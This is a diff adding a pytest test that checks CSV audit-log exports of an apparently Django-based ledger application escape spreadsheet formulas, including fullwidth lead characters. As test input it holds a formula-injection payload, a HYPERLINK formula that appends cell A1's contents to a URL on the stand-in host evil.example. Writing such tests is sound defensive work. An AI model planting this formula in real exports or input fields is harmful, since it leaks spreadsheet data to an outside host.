@@ -6,6 +6,7 @@ import io
 import json
 
 import pytest
+from django.test import Client
 
 from ledger import services
 from ledger.models import Stamp
@@ -177,3 +178,37 @@ def test_audit_log_takes_the_last_day_python_holds(world, api_auditor, fmt):
     params = {"since": "9999-12-31", "until": "9999-12-31", "format": fmt}
     response = api_auditor.get("audit-log/", params)
     assert response.status_code == 200
+
+
+def _csv_rows(response) -> list[list[str]]:
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+@pytest.mark.parametrize("lead", ["\uff1d", "\uff0b", "\uff0d", "\uff20", "="])
+def test_every_csv_export_neutralises_formulas_in_every_text_cell(
+    world, api_support, api_auditor, auditor, lead
+):
+    # Fullwidth = + - @ are folded to ASCII by spreadsheets that evaluate them; the request
+    # id comes from the client's X-Request-ID, which may start with "-".
+    reason = lead + 'HYPERLINK("http://evil.example/?"&A1,"open")'
+    response = api_support.post(
+        f"stamps/{world['stamp'].pk}/deduct/",
+        {"reason": reason},
+        headers={"X-Request-ID": "-A1:A9"},
+    )
+    assert response.status_code == 200
+    admin = Client()
+    admin.force_login(auditor)
+    exports = {
+        "staff API": _csv_rows(
+            api_auditor.get("audit-log/", {"format": "csv", "channel": "staff-api"})
+        ),
+        "admin": _csv_rows(admin.get("/admin/audit-log.csv", {"channel": "staff-api"})),
+    }
+    for name, rows in exports.items():
+        header, body = rows[0], rows[1:]
+        assert len(body) == 1, name
+        row = dict(zip(header, body[0], strict=True))
+        assert row["reason"] == "'" + reason, name
+        assert row["request_id"] == "'-A1:A9", name
